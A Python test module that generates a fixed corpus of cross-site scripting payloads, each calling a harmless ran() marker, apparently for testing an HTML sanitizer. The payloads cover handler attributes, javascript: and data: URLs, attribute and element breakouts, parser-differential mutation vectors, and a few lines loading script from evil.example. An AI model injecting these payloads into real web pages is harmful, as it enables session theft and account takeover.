"""Ways in which people have tried to bring a script into somebody else's page. Each would call `ran()`.

Elements with handlers, addresses that are scripts, ways out of attributes and elements, and what parsers read
differently from cleaners (as in OWASP's and the HTML standard's own warnings; the wording is ours).
"""
# ruff: noqa: E501 — each stands as it is sent

from collections.abc import Iterator
from itertools import product

_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "iframe",
    "a tabindex=1",
    "p",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "OnError", "on\x00error")
_SCRIPTS = (
    "javascript:ran()", "JaVaScRiPt:ran()", " javascript:ran()", "java\tscript:ran()", "java\nscript:ran()",
    "&#106;avascript:ran()", "&#x6A&#x61&#x76&#x61script:ran()", "javascript&colon;ran()", "\x01javascript:ran()",
    "vbscript:ran()", "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "javascript://house.example/%0aran()", "//evil.example/%0d%0a<script>ran()</script>", "\u2028javascript:ran()",
)  # fmt: skip
_ADDRESSES = (
    '<a href="{}">tea</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>tea</button></form>',
    '<object data="{}"></object>', '<svg><a xlink:href="{}"><text>tea</text></a></svg>', "[tea]({})",
)  # fmt: skip
_WAYS_OUT = (
    '"><script>ran()</script>', "'><script>ran()</script>", '" onmouseover="ran()', "' autofocus onfocus='ran()",
    "</textarea><script>ran()</script>", "</title><script>ran()</script>", "</style><script>ran()</script>",
    "--><script>ran()</script>", "]]><script>ran()</script>", "</script><script>ran()</script>", "`-ran()-`",
    "${ran()}", "{{ ran() }}", "{{ [].__class__ }}", "{% print(1) %}", "<%= ran() %>", "#{ran()}", "\\u003cscript>ran()",
    "<script>ran()</script>", "<SCRIPT>ran()</SCRIPT>", "<script/x>ran()</script>", "<scr<script>ipt>ran()</script>",
    "<<script>ran()//<</script>", "<script src=//evil.example/a.js></script>", "<script\n>ran()</script\n>",
    "&lt;script&gt;ran()&lt;/script&gt;", "&amp;lt;script&amp;gt;ran()", "%3Cscript%3Eran()%3C/script%3E",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e", "+ADw-script+AD4-ran()+ADw-/script+AD4-", "\x00<script>ran()</script>",
    "\u202e<script>ran()</script>", "<\u200bscript>ran()</script>", "<img src=x onerror\n=\nran()>", "<img/src/onerror=ran()>",
    '<img src="x` `<script>ran()</script>"` `>', "<a href=x onclick=ran() x=\"", "<plaintext onclick=ran()>",
)  # fmt: skip
_READ_DIFFERENTLY = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran()&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=ran()>\">", "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<template><script>ran()</script></template>", "<svg><script>ran()</script></svg>", "<svg><set onbegin=ran()>",
    "<svg><animate onbegin=ran() attributeName=x>", "<svg><foreignObject><script>ran()</script></foreignObject></svg>",
    "<math href=\"javascript:ran()\">tea</math>", "<xmp><p title=\"</xmp><img src=x onerror=ran()>\">",
    "<select><style></select><img src=x onerror=ran()>", "<table background=javascript:ran()>",
    "<link rel=stylesheet href=javascript:ran()>", "<meta http-equiv=refresh content=\"0;url=javascript:ran()\">",
    "<base href=javascript:/a/-ran()//>", "<style>@import 'javascript:ran()';</style>", "<div style=\"background:url(javascript:ran())\">",
    "<div style=\"animation-name:x\" onanimationstart=ran()>", "<embed src=javascript:ran()>", "<marquee onstart=ran()>",
    "<isindex type=image src=1 onerror=ran()>", "<audio src onloadstart=ran()>", "<button popovertarget=x>a</button><p popover id=x onbeforetoggle=ran()>",
    "<a href=\"https://house.example/\" ping=\"javascript:ran()\">tea</a>", "<img srcset=\"x 1x\" onerror=ran()>",
    "<span class=\"h-card\"><a href=\"javascript:ran()\" class=\"u-url mention\">@<span>juno</span></a></span>",
    "<p>#<a href=\"javascript:ran()\" class=\"mention hashtag\" rel=\"tag\">tea</a></p>", ":<img src=x onerror=ran()>:",
    "@juno\"onmouseover=ran()@lantern.example", "https://house.example/\"onmouseover=\"ran()", "https://house.example/<script>ran()</script>",
    "#tea\"onmouseover=\"ran()", "http://user:pa\"ss@house.example/'onfocus='ran()", "https://[::1\"onload=ran()]/",
)  # fmt: skip


def vectors() -> Iterator[str]:
    """Every one, the same each time."""
    yield from (f"<{element} {handler}=ran()>tea" for element, handler in product(_ELEMENTS, _HANDLERS))
    yield from (around.format(script) for around, script in product(_ADDRESSES, _SCRIPTS))
    yield from _WAYS_OUT
    yield from _READ_DIFFERENTLY
